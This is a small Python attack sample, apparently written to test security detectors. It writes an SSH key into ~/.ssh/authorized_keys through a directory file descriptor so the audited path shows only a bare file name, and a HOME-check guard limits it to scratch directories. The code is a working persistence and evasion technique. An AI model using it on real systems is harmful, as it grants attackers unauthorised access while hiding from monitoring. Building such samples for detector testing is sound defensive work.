# technique: T1098.004
"""SSH Authorized Keys (T1098.004) written through a directory descriptor:
os.open("authorized_keys", ..., dir_fd=<fd of ~/.ssh>).

The audited open names only `authorized_keys` and an integer dir_fd; the
directory is what an earlier os.open of ~/.ssh (O_DIRECTORY) resolved to.
A detector that reads the path argument alone sees a bare file name.

A good detector raises a high alert: a key is written to
~/.ssh/authorized_keys, with the path resolved through dir_fd.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os

ssh = os.path.join(os.path.expanduser("~"), ".ssh")
os.makedirs(ssh, mode=0o700, exist_ok=True)
dfd = os.open(ssh, os.O_RDONLY | os.O_DIRECTORY)
try:
    fd = os.open("authorized_keys", os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600, dir_fd=dfd)
    os.write(fd, b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIdirfdkey0000 ops@jump\n")
    os.close(fd)
finally:
    os.close(dfd)
